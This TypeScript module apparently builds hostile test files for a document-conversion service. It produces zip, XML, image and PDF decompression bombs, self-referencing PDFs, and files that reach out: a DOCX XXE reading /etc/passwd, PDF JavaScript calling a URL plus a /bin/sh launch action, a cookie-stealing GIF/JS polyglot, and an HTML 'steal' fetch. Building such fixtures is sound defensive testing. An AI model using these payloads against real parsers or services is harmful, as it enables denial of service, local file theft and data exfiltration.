/**
 * Hostile documents, made here byte by byte: bombs, loops, lies in headers, polyglots and
 * files that reach out. Each is what an attacker (or a broken program) could upload.
 */
import zlib from 'node:zlib';
import { pngChunk, zip, zipArchive } from './corpus';

/** A ZIP of deflated entries; `declared` overrides an entry's stated uncompressed size (a header that lies). */
export function deflatedZip(entries: Array<{ name: string; data: Buffer; declared?: number }>): Buffer {
  return zipArchive(entries.map((entry) => ({ ...entry, deflate: true })));
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

function docxOf(documentXml: string | Buffer, extra: Array<{ name: string; data: Buffer; declared?: number }> = []): Buffer {
  return deflatedZip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(ROOT_RELS) },
    { name: 'word/document.xml', data: Buffer.isBuffer(documentXml) ? documentXml : Buffer.from(documentXml) },
    ...extra,
  ]);
}

/** A DOCX whose text part inflates from about 100 KB to 100 MB of paragraphs: a zip bomb. */
export function zipBombDocx(): Buffer {
  const paragraph = '<w:p><w:r><w:t>bomb</w:t></w:r></w:p>';
  const head = `<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body>`;
  const tail = '</w:body></w:document>';
  const repeats = Math.floor((100 * 1024 * 1024) / paragraph.length);
  return docxOf(Buffer.concat([Buffer.from(head), Buffer.from(paragraph.repeat(repeats)), Buffer.from(tail)]));
}

/** A DOCX whose ZIP headers say its text part is 4 GB once inflated (a lie, or a bomb: nobody should try). */
export function lyingZipDocx(): Buffer {
  return deflatedZip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(ROOT_RELS) },
    { name: 'word/document.xml', data: Buffer.from(`<?xml version="1.0"?><w:document ${W}><w:body/></w:document>`), declared: 0xfffffff0 },
  ]);
}

/** A DOCX with the "billion laughs" entity expansion in its text part. */
export function xmlBombDocx(): Buffer {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  return docxOf(
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [${entities.join('')}]><w:document ${W}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`,
  );
}

/** A DOCX that reaches out: an external entity (a local file) and a linked picture on `url`. */
export function externalRefDocx(url: string): Buffer {
  const rels =
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${url}/docx-image.png" TargetMode="External"/></Relationships>`;
  const picture =
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/>' +
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>' +
    '<pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdImg"/></pic:blipFill>' +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
  const documentXml =
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "${url}/docx-entity">]>` +
    `<w:document ${W}><w:body><w:p><w:r><w:t>Dear reader &secret; &remote;</w:t></w:r></w:p>${picture}</w:body></w:document>`;
  return docxOf(documentXml, [{ name: 'word/_rels/document.xml.rels', data: Buffer.from(rels) }]);
}

/** An OpenDocument text linking a picture and a section on `url`. */
export function externalRefOdt(url: string): Buffer {
  return zip([
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    [
      'content.xml',
      '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2"><office:body><office:text>' +
        `<text:p>Linked<draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${url}/odt-image.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>` +
        `<text:section text:name="s"><text:section-source xlink:href="${url}/odt-section.odt" xlink:type="simple"/></text:section>` +
        '</office:text></office:body></office:document-content>',
    ],
    [
      'META-INF/manifest.xml',
      '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">' +
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>' +
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    ],
  ]);
}

/** A Word document LibreOffice needs a long time for: thousands of pages of nested tables. */
export function slowDocx(): Buffer {
  const cell = (text: string): string => `<w:tc><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:tc>`;
  const inner = `<w:tbl><w:tr>${cell('a')}${cell('b')}${cell('c')}</w:tr></w:tbl>`;
  const row = `<w:tr><w:tc>${inner}<w:p/></w:tc>${cell('slow')}</w:tr>`;
  return docxOf(`<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body><w:tbl>${row.repeat(40_000)}</w:tbl></w:body></w:document>`);
}

/** A PDF from raw objects, with a correct cross-reference table. */
export function rawPdf(objects: string[], trailer = '/Root 1 0 R'): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const PAGE_TEXT = '<< /Length 44 >>\nstream\nBT /F1 24 Tf 72 720 Td (Hostile) Tj ET\nendstream';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A page tree that contains itself. */
export function pdfPageLoop(): Buffer {
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>']);
}

/** Objects that refer to each other in a circle, where a page's resources should be. */
export function pdfReferenceLoop(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 5 0 R /Contents 4 0 R >>',
    PAGE_TEXT,
    '<< /Font 6 0 R /XObject 5 0 R >>',
    '<< /F1 5 0 R /Next 6 0 R >>',
  ]);
}

/** A cross-reference chain whose /Prev points back at itself. */
export function pdfXrefLoop(): Buffer {
  const base = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>']).toString(
    'latin1',
  );
  const xref = Number(/startxref\n(\d+)/.exec(base)![1]);
  return Buffer.from(base.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${xref}`), 'latin1');
}

/** A page tree that claims a hundred million pages with one real one. */
export function pdfHugeCount(): Buffer {
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>']);
}

/** Fifty thousand pages in a few kilobytes: one page object listed over and over. */
export function pdfManyPagesTiny(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${'3 0 R '.repeat(50_000)}] /Count 50000 >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ]);
}

/** A page of 5 × 5 km (the format allows 14400 units; this says far more). */
export function pdfHugePage(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14000000 14000000] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    PAGE_TEXT,
    FONT,
  ]);
}

/** A PDF whose opening runs JavaScript that would call `url`, and a launch action. */
export function pdfJavaScript(url: string): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 7 0 R >> >>',
    PAGE_TEXT,
    FONT,
    `<< /Type /Action /S /JavaScript /JS (app.launchURL\\("${url}/pdf-js", true\\); this.submitForm\\("${url}/pdf-form"\\);) >>`,
    '<< /Type /Action /S /Launch /F (/bin/sh) >>',
  ]);
}

/** A PDF whose page content nests arrays a hundred thousand deep. */
export function pdfDeepNesting(): Buffer {
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Deep ${deep} >>`,
    `<< /Length ${deep.length} >>\nstream\n${deep}\nendstream`,
  ]);
}

/** A JPEG whose frame header declares 65500 × 65500 pixels, with almost no data. */
export function jpegBomb(): Buffer {
  const sof = Buffer.from([0xff, 0xc0, 0, 11, 8, 0xff, 0xdc, 0xff, 0xdc, 1, 1, 0x11, 0]);
  const dqt = Buffer.concat([Buffer.from([0xff, 0xdb, 0, 67, 0]), Buffer.alloc(64, 1)]);
  const dht = Buffer.concat([Buffer.from([0xff, 0xc4, 0, 20, 0]), Buffer.from([1, ...Array(15).fill(0)]), Buffer.from([0])]);
  const sos = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), dqt, sof, dht, sos, Buffer.alloc(64), Buffer.from([0xff, 0xd9])]);
}

/** A TIFF whose only page declares 1,000,000 × 1,000,000 pixels in one strip of a few bytes. */
export function tiffBomb(): Buffer {
  const entries: Array<[number, number, number]> = [
    [256, 4, 1_000_000], // width
    [257, 4, 1_000_000], // height
    [258, 3, 1], // bits per sample
    [259, 3, 1], // no compression
    [262, 3, 0], // white is zero
    [273, 4, 8 + 2 + 8 * 12 + 4], // strip offset: after the directory
    [278, 4, 1_000_000], // rows per strip
    [279, 4, 16], // strip bytes
  ];
  const ifd = Buffer.alloc(2 + entries.length * 12 + 4);
  ifd.writeUInt16LE(entries.length, 0);
  entries.forEach(([tag, type, value], i) => {
    const at = 2 + i * 12;
    ifd.writeUInt16LE(tag, at);
    ifd.writeUInt16LE(type, at + 2);
    ifd.writeUInt32LE(1, at + 4);
    if (type === 3) ifd.writeUInt16LE(value, at + 8);
    else ifd.writeUInt32LE(value, at + 8);
  });
  const header = Buffer.from([0x49, 0x49, 42, 0, 8, 0, 0, 0]);
  return Buffer.concat([header, ifd, Buffer.alloc(16)]);
}

/** A GIF whose screen and image claim 65535 × 65535 pixels. */
export function gifBomb(): Buffer {
  const screen = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0]);
  const palette = Buffer.from([0, 0, 0, 255, 255, 255]);
  const descriptor = Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0]);
  return Buffer.concat([Buffer.from('GIF89a', 'latin1'), screen, palette, descriptor, Buffer.from([2, 2, 0x4c, 0x01, 0, 0x3b])]);
}

/** A BMP whose header claims 30000 × 30000 pixels of 24 bits (2.7 GB) with none of them. */
export function bmpBomb(): Buffer {
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + 64, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(30000, 18);
  header.writeInt32LE(30000, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  return Buffer.concat([header, Buffer.alloc(64)]);
}

/** A PDF with a ZIP archive (an office document's parts) appended: two formats in one file. */
export function pdfZipPolyglot(pdfBytes: Buffer, zipBytes: Buffer): Buffer {
  return Buffer.concat([pdfBytes, zipBytes]);
}

/** A GIF header that is also the start of a script: the classic GIF/JavaScript polyglot. */
export function gifScriptPolyglot(): Buffer {
  return Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//', 'latin1');
}

/** An HTML page with a script, named and typed as a PDF by its sender. */
export function htmlAsPdf(): Buffer {
  return Buffer.from('<!DOCTYPE html><html><body><script>fetch("http://127.0.0.1/steal")</script><p>Invoice</p></body></html>');
}

/** An SVG drawing with a script and an external image. */
export function svgWithScript(url: string): Buffer {
  return Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"><script>alert(1)</script><image xlink:href="${url}/svg-image.png" width="100" height="100"/></svg>`,
  );
}

/** A PDF page whose content stream inflates about a thousandfold to `mb` MB: a decompression bomb inside the PDF. */
export function pdfFlateBomb(mb: number): Buffer {
  const packed = zlib.deflateSync(Buffer.alloc(mb * 1024 * 1024, 0x20), { level: 9 });
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed.toString('latin1')}\nendstream`,
  ]);
}

/** A square PNG of `side` pixels (under the page limit) whose pixels are compressed zeros, with a text chunk inflating to `textMb` MB. */
export function pngInflateBomb(side: number, textMb: number): Buffer {
  const width = side;
  const height = side;
  const row = Buffer.alloc(1 + width * 3);
  const raw = zlib.deflateSync(Buffer.concat(Array.from({ length: height }, () => row)), { level: 9 });
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  // The text chunk is a bomb in the metadata.
  const ztxt = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), zlib.deflateSync(Buffer.alloc(textMb * 1024 * 1024, 0x41), { level: 9 })]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('zTXt', ztxt),
    pngChunk('IDAT', raw),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A WebP whose extended header declares the format's largest canvas, 16384 × 16384, with no image data. */
export function webpBomb(): Buffer {
  const vp8x = Buffer.alloc(18);
  vp8x.write('VP8X', 0, 'latin1');
  vp8x.writeUInt32LE(10, 4);
  vp8x.writeUIntLE(16383, 12, 3);
  vp8x.writeUIntLE(16383, 15, 3);
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), vp8x]);
  const riff = Buffer.alloc(8);
  riff.write('RIFF', 0, 'latin1');
  riff.writeUInt32LE(body.length, 4);
  return Buffer.concat([riff, body]);
}
